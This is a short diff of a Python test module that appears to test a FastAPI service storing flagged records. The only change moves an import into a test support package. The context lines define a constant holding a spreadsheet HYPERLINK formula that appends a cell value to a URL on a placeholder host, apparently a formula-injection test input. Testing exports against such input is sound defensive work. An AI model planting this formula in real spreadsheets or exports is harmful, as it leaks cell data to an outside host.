@@ -9,11 +9,11 @@ import io
 import json
 import math
 
-from api_data import MODEL_A, flagged
 from fastapi.testclient import TestClient
 from sqlalchemy.orm import Session, sessionmaker
 
 from storage.repository import write_flagged
+from tests.support.api_data import MODEL_A, flagged
 
 FORMULA = '=HYPERLINK("http://x/?"&A1,"click")'
 
